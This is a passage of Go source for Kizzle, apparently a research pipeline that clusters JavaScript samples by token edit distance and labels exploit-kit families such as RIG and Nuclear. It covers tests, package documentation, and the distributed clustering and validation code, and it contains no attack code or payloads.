	}
	// Eviction: cap is 2 per family.
	c.Add("RIG", "1111")
	c.Add("RIG", "2222")
	c.Add("RIG", "3333")
	if got := c.Size("RIG"); got != 2 {
		t.Errorf("RIG corpus size = %d, want 2 (evicted)", got)
	}
}

func TestCorpusOverlapWith(t *testing.T) {
	c := NewCorpus(winnow.DefaultConfig(), 4)
	text := "function detect() { return navigator.plugins.length; }"
	c.Add("Nuclear", text)
	if got := c.OverlapWith("Nuclear", text); got < 0.99 {
		t.Errorf("self overlap = %v", got)
	}
	if got := c.OverlapWith("RIG", text); got != 0 {
		t.Errorf("unknown family overlap = %v, want 0", got)
	}
}

func TestConfigThreshold(t *testing.T) {
	cfg := DefaultConfig()
	cfg.Thresholds = map[string]float64{"Nuclear": 0.8}
	if got := cfg.Threshold("Nuclear"); got != 0.8 {
		t.Errorf("Nuclear threshold = %v", got)
	}
	if got := cfg.Threshold("RIG"); got != cfg.DefaultThreshold {
		t.Errorf("default threshold = %v", got)
	}
}

func TestPartition(t *testing.T) {
	parts := partition(10, 3)
	if len(parts) != 4 {
		t.Fatalf("partition(10,3) gave %d parts", len(parts))
	}
	seen := make(map[int]bool)
	for _, p := range parts {
		for _, idx := range p {
			if seen[idx] {
				t.Fatalf("index %d assigned twice", idx)
			}
			seen[idx] = true
		}
	}
	if len(seen) != 10 {
		t.Errorf("%d indices assigned, want 10", len(seen))
	}
}

func BenchmarkProcessDay(b *testing.B) {
	cfg := ekit.DefaultStreamConfig()
	cfg.BenignPerDay = 300
	stream, err := ekit.NewStream(cfg)
	if err != nil {
		b.Fatal(err)
	}
	day := ekit.Date(8, 5)
	in := inputsFromSamples(stream.Day(day))
	corpus := seedCorpus(day)
	pcfg := testConfig()
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := Process(in, corpus, pcfg); err != nil {
			b.Fatal(err)
		}
	}
}
