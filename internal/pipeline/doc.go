// Package pipeline is Kizzle's main driver (paper Figure 7): stream the
// day's samples into clustering partitions, cluster each partition with
// DBSCAN over normalized token edit distance, reconcile the pre-reduced
// partition summaries in a hierarchical reduce, label each merged cluster
// by unpacking its prototype and winnow-matching it against the known-kit
// corpus, and generate a structural signature for every malicious
// cluster.
//
// The stages, and where each one's cost goes:
//
//   - tokenize + dedupe + emit (fused, streaming): digest pre-dedup, then
//     streaming symbol-only lexing (jstoken.Scratch) one chunk ahead of
//     the dedup cursor — identical raw documents are lexed once per cache
//     lifetime. Identical abstract sequences collapse to one weighted
//     point; new uniques scatter round-robin across Config.PartitionFanout
//     open partitions (the streaming stand-in for the paper's random
//     partitioning), and each partition is dispatched the moment it
//     fills — a shard fleet clusters while the host still lexes the tail;
//   - cluster + pre-reduce: weighted DBSCAN per partition over the
//     allocation-free banded edit-distance kernel (textdist.Scratch +
//     frequency lower bounds), then PreReducePartition compacts the
//     result (representative merge + local noise fold). The dominant
//     cold-path cost and the stage that scales horizontally:
//     Config.Clusterer dispatches work units to shard workers
//     (internal/shardcoord), bit-identically;
//   - hierarchical reduce: union-find merge over the summaries'
//     representatives, noise re-cluster, straggler adoption — the step
//     the paper calls the serial bottleneck. Its three distance sweeps
//     run through the same seam as clustering: in-process by default,
//     fanned out to the fleet as EdgeJob work units under a
//     StreamClusterer, leaving the coordinator only union-find and
//     bookkeeping;
//   - label: unpack the prototype, winnow-fingerprint it, sweep the
//     known-kit corpus. The sweep is family-sliced: the Corpus keeps a
//     content-derived generation per family, cached verdicts carry one
//     slice per family, and a corpus Add re-sweeps only the family it
//     touched (Stats.LabelSweeps counts the sweeps actually run);
//   - sign: generalize a structural signature per malicious cluster.
//
// Config.Cache threads a contentcache.Cache through every stage so a day
// N+1 batch pays only for novel content; CacheCodecs supplies the disk
// codecs that make that cache survive restarts (contentcache.Save/Load).
// Caching, sharding, and dispatch mode (streaming vs Config.BatchDispatch,
// shard-side vs Config.DisableShardPreReduce pre-reduce) are pinned by
// differential tests to never change pipeline output.
package pipeline
