// Package pipeline is Kizzle's main driver (paper Figure 7): partition the
// day's samples across clustering workers, cluster each partition with
// DBSCAN over normalized token edit distance, reconcile partition clusters
// in a reduce step, label each merged cluster by unpacking its prototype
// and winnow-matching it against the known-kit corpus, and generate a
// structural signature for every malicious cluster.
//
// The stages (tokenize → dedupe → partition → cluster → reduce → label →
// sign), and where each one's cost goes:
//
//   - tokenize: digest pre-dedup, then streaming symbol-only lexing
//     (jstoken.Scratch) — identical raw documents are lexed once per
//     cache lifetime;
//   - dedupe: identical abstract sequences collapse to one weighted
//     point, which shrinks a kit's whole day to a handful of shapes;
//   - cluster: weighted DBSCAN per partition over the allocation-free
//     banded edit-distance kernel (textdist.Scratch + frequency lower
//     bounds). This is the dominant cold-path cost and the stage that
//     scales horizontally: Config.Clusterer dispatches partitions to
//     shard workers (internal/shardcoord), bit-identically;
//   - reduce: union-find merge of partition clusters, noise re-cluster,
//     straggler adoption — the step the paper calls the serial
//     bottleneck;
//   - label: unpack the prototype, winnow-fingerprint it, sweep the
//     known-kit corpus;
//   - sign: generalize a structural signature per malicious cluster.
//
// Config.Cache threads a contentcache.Cache through every stage so a day
// N+1 batch pays only for novel content; CacheCodecs supplies the disk
// codecs that make that cache survive restarts (contentcache.Save/Load).
// Both caching and sharding are pinned by differential tests to never
// change pipeline output.
package pipeline
