package pipeline

import (
	"fmt"
	"runtime"

	"kizzle/internal/dbscan"
	"kizzle/internal/jstoken"
)

// This file is the pipeline's horizontal-scaling seam. The paper ran the
// clustering stage on a 50-machine layout ("randomly partition the samples
// across a cluster of machines"); here the stage is factored so a
// coordinator can dispatch partitions to remote workers while the cheap
// coordinator-side stages (tokenize/dedupe before, reduce/label/sign
// after) stay inside Process. internal/shardcoord provides the
// coordinator/worker implementation over HTTP plus an in-process loopback
// for tests.

// ShardPartition is one clustering work unit: the abstract symbol
// sequences of a partition's unique shapes and the sample weight of each
// (how many raw samples collapsed into that shape). Sequences — two bytes
// per symbol — are what travels to a shard worker; raw documents never
// leave the coordinator.
type ShardPartition struct {
	Seqs    [][]jstoken.Symbol `json:"seqs"`
	Weights []int              `json:"weights"`
}

// ShardClusters is a worker's result for one partition: clusters and noise
// in partition-local indices (positions into ShardPartition.Seqs).
type ShardClusters struct {
	Clusters [][]int `json:"clusters"`
	Noise    []int   `json:"noise"`
}

// Clusterer abstracts the partition-clustering stage. ClusterPartitions
// must return one ShardClusters per input partition, in order; the
// pipeline's output is then bit-identical regardless of where partitions
// were clustered, because partition clustering is deterministic in
// (sequences, weights, eps, minPts) — see TestShardedMatchesSingleProcess.
type Clusterer interface {
	ClusterPartitions(parts []ShardPartition, cfg Config) ([]ShardClusters, error)
}

// ClusterPartition clusters one partition — the unit of work a shard
// worker executes. It is exactly the per-partition computation the
// in-process path runs: the eps neighbor graph over the partition's
// sequences (length-pruned, frequency-bounded, parallel across
// cfg.Workers) followed by weighted DBSCAN. cfg.Cache, when set, caches
// pair verdicts across requests on the worker; caching never changes the
// result.
func ClusterPartition(p ShardPartition, cfg Config) ShardClusters {
	if cfg.Workers <= 0 {
		cfg.Workers = runtime.GOMAXPROCS(0)
	}
	if cfg.Eps <= 0 {
		cfg.Eps = 0.10
	}
	if cfg.MinPts <= 0 {
		cfg.MinPts = 2
	}
	n := len(p.Seqs)
	idx := make([]int, n)
	for i := range idx {
		idx[i] = i
	}
	var ids []seqID
	if cfg.Cache != nil {
		// Sequence identities for the cross-request pair-verdict cache;
		// recomputed worker-side from the wire sequences.
		ids = make([]seqID, n)
		for i, seq := range p.Seqs {
			ids[i] = seqID{h1: hashSeq(seq), h2: altHashSeq(seq), n: len(seq)}
		}
	}
	adj := neighborGraph(p.Seqs, ids, cfg.Cache, idx, cfg.Eps, cfg.Workers)
	clusterIDs := dbscan.ClusterWeighted(adj, p.Weights, cfg.MinPts)
	var out ShardClusters
	out.Clusters = dbscan.Groups(clusterIDs)
	for local, id := range clusterIDs {
		if id == dbscan.Noise {
			out.Noise = append(out.Noise, local)
		}
	}
	return out
}

// clusterViaClusterer runs the partition stage through cfg.Clusterer and
// maps the partition-local results back to unique-sequence indices, in the
// same (partition, cluster) order the in-process path produces.
func clusterViaClusterer(u uniqueSet, parts [][]int, cfg Config) ([]partCluster, []int, error) {
	shardParts := make([]ShardPartition, len(parts))
	for pi, part := range parts {
		sp := ShardPartition{
			Seqs:    make([][]jstoken.Symbol, len(part)),
			Weights: make([]int, len(part)),
		}
		for k, ui := range part {
			sp.Seqs[k] = u.seqs[ui]
			sp.Weights[k] = len(u.members[ui])
		}
		shardParts[pi] = sp
	}
	results, err := cfg.Clusterer.ClusterPartitions(shardParts, cfg)
	if err != nil {
		return nil, nil, fmt.Errorf("cluster partitions: %w", err)
	}
	if len(results) != len(parts) {
		return nil, nil, fmt.Errorf("cluster partitions: %d results for %d partitions", len(results), len(parts))
	}
	var clusters []partCluster
	var noise []int
	for pi, r := range results {
		part := parts[pi]
		for _, group := range r.Clusters {
			pc := make(partCluster, len(group))
			for k, local := range group {
				if local < 0 || local >= len(part) {
					return nil, nil, fmt.Errorf("cluster partitions: partition %d returned index %d outside [0,%d)", pi, local, len(part))
				}
				pc[k] = part[local]
			}
			clusters = append(clusters, pc)
		}
		for _, local := range r.Noise {
			if local < 0 || local >= len(part) {
				return nil, nil, fmt.Errorf("cluster partitions: partition %d returned noise index %d outside [0,%d)", pi, local, len(part))
			}
			noise = append(noise, part[local])
		}
	}
	return clusters, noise, nil
}
