package pipeline

import (
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"runtime"
	"time"

	"kizzle/internal/contentcache"
	"kizzle/internal/dbscan"
	"kizzle/internal/jstoken"
)

// This file is the pipeline's horizontal-scaling seam. The paper ran the
// clustering stage on a 50-machine layout ("randomly partition the samples
// across a cluster of machines"); here the stage is factored so a
// coordinator can dispatch work units to remote workers while the cheap
// coordinator-side stages stay inside Process. Two unit kinds exist:
//
//   - partition units: cluster one partition's sequences (DBSCAN) and
//     pre-reduce the result (protocol v2) — the bottom level of the
//     hierarchical reduce;
//   - edge units: evaluate a batch of within-eps pair tests between
//     sequences — the distance sweeps of the reduce step (representative
//     merge, noise re-clustering, straggler adoption), fanned back out to
//     the fleet so the coordinator's serial floor shrinks to union-find
//     and bookkeeping.
//
// internal/shardcoord provides the coordinator/worker implementation over
// HTTP plus an in-process loopback for tests.

// ShardPartition is one clustering work unit: the abstract symbol
// sequences of a partition's unique shapes and the sample weight of each
// (how many raw samples collapsed into that shape). Sequences — two bytes
// per symbol — are what travels to a shard worker; raw documents never
// leave the coordinator.
type ShardPartition struct {
	Seqs    [][]jstoken.Symbol `json:"seqs"`
	Weights []int              `json:"weights"`
	// Keys are the content addresses of Seqs (aligned), attached by the
	// streaming session so an affinity-routing coordinator can record which
	// worker became resident for which sequences. Coordinator-side only —
	// never on the wire; workers that keep a resident set recompute the
	// keys themselves (wire data is untrusted anyway).
	Keys []SeqKey `json:"-"`
}

// ShardClusters is a worker's result for one partition: clusters and noise
// in partition-local indices (positions into ShardPartition.Seqs). This is
// the protocol-v1 result shape; v2 responses carry a ReducedPartition
// instead.
type ShardClusters struct {
	Clusters [][]int `json:"clusters"`
	Noise    []int   `json:"noise"`
}

// ReducedPartition is a partition's pre-reduced clustering summary
// (protocol v2): partition clusters merged where their representatives
// fall within eps, local noise folded into those merged clusters where it
// can be, and one representative recorded per surviving cluster. All
// indices are partition-local (positions into ShardPartition.Seqs). The
// pre-reduce is a pure function of the partition, so the summary is
// identical no matter which shard (or the coordinator itself) computed it.
type ReducedPartition struct {
	// Clusters are the pre-merged clusters, ordered by their first
	// constituent DBSCAN cluster.
	Clusters [][]int `json:"clusters"`
	// Reps holds one representative per cluster (the constituent cluster
	// representative covering the most samples), aligned with Clusters.
	Reps []int `json:"reps"`
	// Noise lists the partition's unfolded noise points.
	Noise []int `json:"noise"`
}

// EdgeJob is a distance work unit (protocol v2): evaluate which pairs of
// the referenced sequences are within the normalized edit-distance eps.
// With Cols nil the job is triangular — every unordered pair of Rows
// (i < j by position); otherwise it is bipartite — every (row, col) pair.
// Rows and Cols index into Seqs.
type EdgeJob struct {
	Eps  float64    `json:"eps"`
	Seqs PackedSeqs `json:"seqs"`
	Rows []int      `json:"rows"`
	Cols []int      `json:"cols,omitempty"`
	// Keys are the content addresses of Seqs (aligned), attached by the
	// streaming session for coordinators that speak the digest-first edge
	// protocol (v3). They are a coordinator-side hint only — never part of
	// the v2 wire form, which is why dispatch through a v2-only fleet is
	// byte-identical to pre-v3 coordinators.
	Keys []SeqKey `json:"-"`
}

// SeqKey is the content address of one abstract symbol sequence: the
// XXH64 digest of its packed little-endian wire bytes (the same function
// the content-addressed cache keys on), a second independently mixed
// 64-bit hash, and the symbol count. A wrong match needs a simultaneous
// collision of both hashes and the length — the identity strength every
// other content-addressed structure in the pipeline already relies on.
// Digest-first edge requests (protocol v3) ship keys instead of sequences
// and fill only the keys the worker does not hold.
type SeqKey struct {
	H uint64
	A uint64
	N uint32
}

// SeqKeyOf computes the content address of a sequence.
func SeqKeyOf(seq []jstoken.Symbol) SeqKey {
	b := make([]byte, 2*len(seq))
	for i, sym := range seq {
		b[2*i] = byte(sym)
		b[2*i+1] = byte(sym >> 8)
	}
	return SeqKey{H: contentcache.Digest(string(b)), A: altHashSeq(seq), N: uint32(len(seq))}
}

// WireBytes is the packed size of the addressed sequence — what shipping
// it (rather than its key) would cost before framing.
func (k SeqKey) WireBytes() int { return 2 * int(k.N) }

// seqKeyRawLen is the encoded key size: H, A little-endian, then N.
const seqKeyRawLen = 20

// MarshalText encodes the key as base64 of its 20 raw bytes, so keys ride
// JSON as compact strings.
func (k SeqKey) MarshalText() ([]byte, error) {
	var raw [seqKeyRawLen]byte
	binary.LittleEndian.PutUint64(raw[0:], k.H)
	binary.LittleEndian.PutUint64(raw[8:], k.A)
	binary.LittleEndian.PutUint32(raw[16:], k.N)
	out := make([]byte, base64.StdEncoding.EncodedLen(seqKeyRawLen))
	base64.StdEncoding.Encode(out, raw[:])
	return out, nil
}

// UnmarshalText decodes a key, rejecting anything but exactly 20 bytes of
// base64 payload (wire keys are untrusted).
func (k *SeqKey) UnmarshalText(text []byte) error {
	raw, err := base64.StdEncoding.DecodeString(string(text))
	if err != nil {
		return fmt.Errorf("sequence key: %w", err)
	}
	if len(raw) != seqKeyRawLen {
		return fmt.Errorf("sequence key: %d raw bytes, want %d", len(raw), seqKeyRawLen)
	}
	k.H = binary.LittleEndian.Uint64(raw[0:])
	k.A = binary.LittleEndian.Uint64(raw[8:])
	k.N = binary.LittleEndian.Uint32(raw[16:])
	return nil
}

// EdgeList is an edge job's result: the within-eps pairs as positions —
// Pairs[k][0] indexes into Rows and Pairs[k][1] into Cols (or into Rows
// for triangular jobs, where Pairs[k][0] < Pairs[k][1]). Pairs are in
// ascending row-major order, so the list is deterministic.
type EdgeList struct {
	Pairs [][2]int `json:"pairs"`
}

// PackedSeqs carries symbol sequences on the wire as base64 of
// little-endian uint16s — roughly 40% of the bytes (and a fraction of the
// encode cost) of JSON integer arrays, which matters because edge jobs
// re-ship each wave's sequences to the fleet.
type PackedSeqs [][]jstoken.Symbol

// MarshalJSON encodes each sequence as a base64 string.
func (p PackedSeqs) MarshalJSON() ([]byte, error) {
	encoded := make([]string, len(p))
	var buf []byte
	for i, seq := range p {
		if cap(buf) < 2*len(seq) {
			buf = make([]byte, 2*len(seq))
		}
		b := buf[:2*len(seq)]
		for j, sym := range seq {
			b[2*j] = byte(sym)
			b[2*j+1] = byte(sym >> 8)
		}
		encoded[i] = base64.StdEncoding.EncodeToString(b)
	}
	return json.Marshal(encoded)
}

// UnmarshalJSON decodes base64 sequences; an odd byte count is rejected.
func (p *PackedSeqs) UnmarshalJSON(data []byte) error {
	var encoded []string
	if err := json.Unmarshal(data, &encoded); err != nil {
		return err
	}
	out := make([][]jstoken.Symbol, len(encoded))
	for i, s := range encoded {
		raw, err := base64.StdEncoding.DecodeString(s)
		if err != nil {
			return fmt.Errorf("sequence %d: %w", i, err)
		}
		if len(raw)%2 != 0 {
			return fmt.Errorf("sequence %d: odd packed length %d", i, len(raw))
		}
		seq := make([]jstoken.Symbol, len(raw)/2)
		for j := range seq {
			seq[j] = jstoken.Symbol(raw[2*j]) | jstoken.Symbol(raw[2*j+1])<<8
		}
		out[i] = seq
	}
	*p = out
	return nil
}

// Clusterer abstracts the partition-clustering stage. ClusterPartitions
// must return one ShardClusters per input partition, in order; the
// pipeline's output is then bit-identical regardless of where partitions
// were clustered, because partition clustering is deterministic in
// (sequences, weights, eps, minPts) — see TestShardedMatchesSingleProcess.
// This is the protocol-v1 batch seam; dispatchers that also implement
// StreamClusterer get streamed work and host the reduce's distance sweeps.
type Clusterer interface {
	ClusterPartitions(parts []ShardPartition, cfg Config) ([]ShardClusters, error)
}

// WorkUnit is one unit of clustering-stage work flowing from the pipeline
// to a StreamClusterer. Exactly one of Partition and Edges is non-nil.
type WorkUnit struct {
	// Seq numbers units within one stream, starting at 0; results are
	// matched back by it.
	Seq int
	// Emitted is the host-time offset at which the unit became available.
	// For partition units it is the coordinator's serial-work clock
	// (time spent on its own work, excluding time blocked on the
	// clusterer); profiling dispatchers use it to model what a real fleet
	// would overlap. For edge units (Wave > 0) it is wall clock since the
	// session opened — informational only: a reduce wave's arrival is
	// governed by its Wave barrier, not Emitted, and profiling
	// dispatchers must model it that way. Execution must not depend on
	// this field.
	Emitted int64
	// Wave is 0 for partition units and increments for each reduce sweep;
	// a wave only starts after every earlier unit's result is in.
	// Profiling dispatchers model the barrier; execution must not depend
	// on it.
	Wave int
	// Partition is a clustering partition work unit.
	Partition *ShardPartition
	// Edges is a distance-sweep work unit.
	Edges *EdgeJob
}

// WorkResult is the outcome of one WorkUnit. Reduced answers partition
// units, Edges answers edge units. A non-nil Err marks the whole stream
// failed; the pipeline stops submitting and surfaces the first error.
type WorkResult struct {
	Seq     int
	Reduced *ReducedPartition
	Edges   *EdgeList
	Err     error
}

// StreamClusterer is the streaming seam: work units are consumed as the
// host emits them — partitions while dedup is still running, then the
// reduce's edge sweeps — so the fleet is busy before the serial stages
// finish. Implementations must emit exactly one result per unit (any
// order) and close the result channel once the work channel closes and
// all results are out.
type StreamClusterer interface {
	Clusterer
	ClusterStream(work <-chan WorkUnit, cfg Config) <-chan WorkResult
	// StreamWorkers reports the fleet size, used to size edge-sweep fan-out
	// (it never affects results).
	StreamWorkers() int
}

// RowPlacer is an optional interface a StreamClusterer can implement to
// expose its locality knowledge: for each key, the shard it believes
// holds the addressed sequence resident (-1 when unknown). The streaming
// session uses the placement to compose edge jobs from rows that live
// together, so affinity routing sends whole jobs to warm workers instead
// of scattering each chunk's bytes across the fleet. Placement is pure
// routing advice: the pair set (and therefore the output) is independent
// of how rows are grouped into jobs.
type RowPlacer interface {
	PlaceRows(keys []SeqKey) []int
}

// CheckShardClusters validates a wire ShardClusters against the
// partition size it answers: clusters and noise together must assign
// every index in [0, n) exactly once — DBSCAN partitions its input, so
// an honest executor never duplicates or drops an index. Coordinators
// must run it on any worker response before handing the indices to
// PreReducePartition — a malformed response from a buggy or hostile
// worker must surface as an error, never as an out-of-range panic in
// the reduce kernels or a silently double-counted (or vanished) sample.
func CheckShardClusters(sc ShardClusters, n int) error {
	seen := make([]bool, n)
	assigned := 0
	claim := func(local int) error {
		if local < 0 || local >= n {
			return fmt.Errorf("index %d outside [0,%d)", local, n)
		}
		if seen[local] {
			return fmt.Errorf("index %d assigned twice", local)
		}
		seen[local] = true
		assigned++
		return nil
	}
	for ci, members := range sc.Clusters {
		if len(members) == 0 {
			return fmt.Errorf("cluster %d is empty", ci)
		}
		for _, local := range members {
			if err := claim(local); err != nil {
				return fmt.Errorf("cluster %d: %w", ci, err)
			}
		}
	}
	for _, local := range sc.Noise {
		if err := claim(local); err != nil {
			return fmt.Errorf("noise: %w", err)
		}
	}
	if assigned != n {
		return fmt.Errorf("%d of %d indices unassigned", n-assigned, n)
	}
	return nil
}

// ClusterPartition clusters one partition — the unit of work a shard
// worker executes. It is exactly the per-partition computation the
// in-process path runs: the eps neighbor graph over the partition's
// sequences (length-pruned, frequency-bounded, parallel across
// cfg.Workers) followed by weighted DBSCAN. cfg.Cache, when set, caches
// pair verdicts across requests on the worker; caching never changes the
// result.
func ClusterPartition(p ShardPartition, cfg Config) ShardClusters {
	if cfg.Workers <= 0 {
		cfg.Workers = runtime.GOMAXPROCS(0)
	}
	if cfg.Eps <= 0 {
		cfg.Eps = DefaultEps
	}
	if cfg.MinPts <= 0 {
		cfg.MinPts = 2
	}
	n := len(p.Seqs)
	idx := make([]int, n)
	for i := range idx {
		idx[i] = i
	}
	ids := wireSeqIDs(p.Seqs, cfg.Cache)
	adj := neighborGraph(p.Seqs, ids, cfg.Cache, idx, cfg.Eps, cfg.Workers)
	clusterIDs := dbscan.ClusterWeighted(adj, p.Weights, cfg.MinPts)
	var out ShardClusters
	out.Clusters = dbscan.Groups(clusterIDs)
	for local, id := range clusterIDs {
		if id == dbscan.Noise {
			out.Noise = append(out.Noise, local)
		}
	}
	return out
}

// wireSeqIDs recomputes cache identities for wire sequences (nil when no
// cache is configured, disabling verdict caching).
func wireSeqIDs(seqs [][]jstoken.Symbol, cache *contentcache.Cache) []seqID {
	if cache == nil {
		return nil
	}
	ids := make([]seqID, len(seqs))
	for i, seq := range seqs {
		ids[i] = seqID{h1: hashSeq(seq), h2: altHashSeq(seq), n: len(seq)}
	}
	return ids
}

// PreReducePartition computes a partition's pre-reduce: DBSCAN clusters
// whose representatives sit within eps are merged (transitively), and
// noise points within eps of a merged cluster's representative are folded
// into it. The result depends only on (partition, clusters, eps), so any
// shard — or the coordinator, for protocol-v1 workers — computes the same
// summary. cfg supplies Eps, Workers, and the optional verdict cache.
func PreReducePartition(p ShardPartition, sc ShardClusters, cfg Config) ReducedPartition {
	if cfg.Workers <= 0 {
		cfg.Workers = runtime.GOMAXPROCS(0)
	}
	if cfg.Eps <= 0 {
		cfg.Eps = DefaultEps
	}
	ids := wireSeqIDs(p.Seqs, cfg.Cache)

	weightOf := func(local int) int { return p.Weights[local] }

	// One representative per DBSCAN cluster: the member covering the most
	// samples, earliest position winning ties.
	reps := make([]int, len(sc.Clusters))
	for ci, members := range sc.Clusters {
		reps[ci] = heaviest(members, weightOf)
	}

	// Merge clusters whose representatives are within eps — the shared
	// kernel, so this level applies exactly the rule the global reduce
	// applies across partitions.
	pairs := sweepPairs(p.Seqs, ids, cfg.Cache, reps, nil, cfg.Eps, cfg.Workers)
	var out ReducedPartition
	out.Clusters, out.Reps = mergeClustersByRepPairs(sc.Clusters, reps, pairs, weightOf)

	// Fold local noise: a noise point within eps of a merged cluster's
	// (fixed) representative joins the first such cluster; the rest stays
	// noise for the global pool.
	if len(sc.Noise) > 0 && len(out.Clusters) > 0 {
		folds := sweepPairs(p.Seqs, ids, cfg.Cache, sc.Noise, out.Reps, cfg.Eps, cfg.Workers)
		adopted := adoptByFirstPair(folds) // noise position → cluster
		for ni, local := range sc.Noise {
			if gi, ok := adopted[ni]; ok {
				out.Clusters[gi] = append(out.Clusters[gi], local)
			} else {
				out.Noise = append(out.Noise, local)
			}
		}
	} else {
		out.Noise = append(out.Noise, sc.Noise...)
	}
	return out
}

// SweepEdges executes one edge job: the within-eps pair sweep a shard
// worker runs for the distributed reduce. cache may be nil; with a cache,
// pair verdicts are shared with partition clustering on the same worker.
func SweepEdges(job EdgeJob, workers int, cache *contentcache.Cache) (EdgeList, error) {
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}
	// Only non-positive eps is invalid: every other pipeline path accepts
	// eps >= 1 (the candidate window saturates and everything matches), so
	// rejecting it here would make the same Config succeed in-process but
	// fail under streamed shard dispatch.
	if job.Eps <= 0 {
		return EdgeList{}, fmt.Errorf("edge job: eps %v must be > 0", job.Eps)
	}
	for _, r := range job.Rows {
		if r < 0 || r >= len(job.Seqs) {
			return EdgeList{}, fmt.Errorf("edge job: row %d outside [0,%d)", r, len(job.Seqs))
		}
	}
	for _, c := range job.Cols {
		if c < 0 || c >= len(job.Seqs) {
			return EdgeList{}, fmt.Errorf("edge job: col %d outside [0,%d)", c, len(job.Seqs))
		}
	}
	ids := wireSeqIDs(job.Seqs, cache)
	return EdgeList{Pairs: sweepPairs(job.Seqs, ids, cache, job.Rows, job.Cols, job.Eps, workers)}, nil
}

// unionFind is a plain union-find over [0,n).
type unionFind []int

func newUnionFind(n int) unionFind {
	p := make(unionFind, n)
	for i := range p {
		p[i] = i
	}
	return p
}

func (p unionFind) find(x int) int {
	for p[x] != x {
		p[x] = p[p[x]]
		x = p[x]
	}
	return x
}

func (p unionFind) union(a, b int) { p[p.find(a)] = p.find(b) }

// clusterViaClusterer runs the partition stage through a batch (protocol
// v1) Clusterer and pre-reduces each partition coordinator-side, yielding
// the same summaries a v2 streaming fleet returns. The second return is
// the wall time of that serial pre-reduce loop — real coordinator work
// the v1 cost model pays that a v2 fleet runs shard-side (Stats
// surfaces it as CoordPreReduce).
func clusterViaClusterer(u uniqueSet, emitted []emittedPartition, cfg Config) ([]summary, time.Duration, error) {
	shardParts := make([]ShardPartition, len(emitted))
	for pi, ep := range emitted {
		shardParts[pi] = ep.part
	}
	results, err := cfg.Clusterer.ClusterPartitions(shardParts, cfg)
	if err != nil {
		return nil, 0, fmt.Errorf("cluster partitions: %w", err)
	}
	if len(results) != len(emitted) {
		return nil, 0, fmt.Errorf("cluster partitions: %d results for %d partitions", len(results), len(emitted))
	}
	start := time.Now()
	sums := make([]summary, len(emitted))
	for pi, r := range results {
		// Responses are untrusted wire data: reject out-of-range indices
		// before the pre-reduce kernels index into the partition.
		if err := CheckShardClusters(r, len(emitted[pi].part.Seqs)); err != nil {
			return nil, 0, fmt.Errorf("cluster partitions: partition %d: %w", pi, err)
		}
		reduced := PreReducePartition(emitted[pi].part, r, cfg)
		s, err := mapSummary(emitted[pi].uniques, &reduced)
		if err != nil {
			return nil, 0, fmt.Errorf("cluster partitions: partition %d: %w", pi, err)
		}
		sums[pi] = s
	}
	return sums, time.Since(start), nil
}

// mapSummary translates a partition-local ReducedPartition into
// unique-sequence indices, validating every index (worker responses are
// untrusted).
func mapSummary(uniques []int, r *ReducedPartition) (summary, error) {
	if len(r.Reps) != len(r.Clusters) {
		return summary{}, fmt.Errorf("%d reps for %d clusters", len(r.Reps), len(r.Clusters))
	}
	// The pre-reduce preserves the partition property of its input: an
	// honest summary assigns every partition index to exactly one cluster
	// or the noise pool, and each rep is a member of its own cluster.
	// Anything else is a corrupt (or hostile) response that would
	// double-count or drop samples downstream.
	seen := make([]bool, len(uniques))
	assigned := 0
	claim := func(local int) error {
		if local < 0 || local >= len(uniques) {
			return fmt.Errorf("index %d outside [0,%d)", local, len(uniques))
		}
		if seen[local] {
			return fmt.Errorf("index %d assigned twice", local)
		}
		seen[local] = true
		assigned++
		return nil
	}
	var s summary
	s.clusters = make([][]int, len(r.Clusters))
	s.reps = make([]int, len(r.Clusters))
	for ci, members := range r.Clusters {
		if len(members) == 0 {
			// An empty cluster would blow up representative selection
			// downstream; no honest executor produces one.
			return summary{}, fmt.Errorf("cluster %d is empty", ci)
		}
		rep := r.Reps[ci]
		repFound := false
		mapped := make([]int, len(members))
		for k, local := range members {
			if err := claim(local); err != nil {
				return summary{}, fmt.Errorf("cluster %d: %w", ci, err)
			}
			mapped[k] = uniques[local]
			repFound = repFound || local == rep
		}
		if !repFound {
			return summary{}, fmt.Errorf("cluster %d rep %d is not a member", ci, rep)
		}
		s.clusters[ci] = mapped
		s.reps[ci] = uniques[rep]
	}
	for _, local := range r.Noise {
		if err := claim(local); err != nil {
			return summary{}, fmt.Errorf("noise: %w", err)
		}
		s.noise = append(s.noise, uniques[local])
	}
	if assigned != len(uniques) {
		return summary{}, fmt.Errorf("%d of %d indices unassigned", len(uniques)-assigned, len(uniques))
	}
	return s, nil
}
