package pipeline

import (
	"sort"
	"strconv"

	"kizzle/internal/contentcache"
	"kizzle/internal/dbscan"
	"kizzle/internal/jstoken"
	"kizzle/internal/parallel"
	"kizzle/internal/textdist"
)

// neighborGraph precomputes the eps region-query graph for the unique
// sequences selected by idx (indices into seqs), combining the three
// clustering-kernel optimizations:
//
//   - a length-sorted candidate index so a region query only tests
//     sequences whose length difference can still be within eps·max-len
//     (the length gap alone is a lower bound on edit distance);
//
//   - a symbol-frequency lower bound: one edit operation moves the
//     per-symbol histograms by at most an L1 mass of 2, so a pair whose
//     histogram L1 distance exceeds 2·maxDist cannot be within eps — an
//     O(alphabet) test that spares the O(band·len) dynamic program for
//     most cross-shape pairs;
//
//   - symmetric evaluation — each unordered pair is tested at most once;
//
//   - parallel evaluation across workers, each with its own reusable
//     textdist.Scratch, so the distance stage does not allocate and large
//     partitions no longer serialize on one goroutine.
//
//   - a cross-run verdict cache: each within-eps decision is
//     content-addressed by the pair's sequence identities (two
//     independent 64-bit hashes plus length, each side), so a day whose
//     unique sequences mostly recur re-reads yesterday's verdicts
//     instead of re-running the dynamic program. ids and cache may be nil
//     to disable.
//
// The resulting adjacency lists are in ascending order, making DBSCAN over
// them identical to the serial linear-scan implementation.
func neighborGraph(seqs [][]jstoken.Symbol, ids []seqID, cache *contentcache.Cache,
	idx []int, eps float64, workers int) dbscan.StaticNeighborer {
	n := len(idx)
	if workers < 1 {
		workers = 1
	}
	lens := make([]int, n)
	for k, ui := range idx {
		lens[k] = len(seqs[ui])
	}
	// Per-sequence symbol histograms plus hashed 2-gram histograms, in
	// flat arenas. The 2-gram profile is far more discriminative on token
	// streams (all JavaScript shares one symbol alphabet, but structure
	// differs), at a weaker per-edit bound: one edit disturbs at most two
	// 2-grams, so distance ≥ L1/4.
	h := newHistArena(seqs, idx)
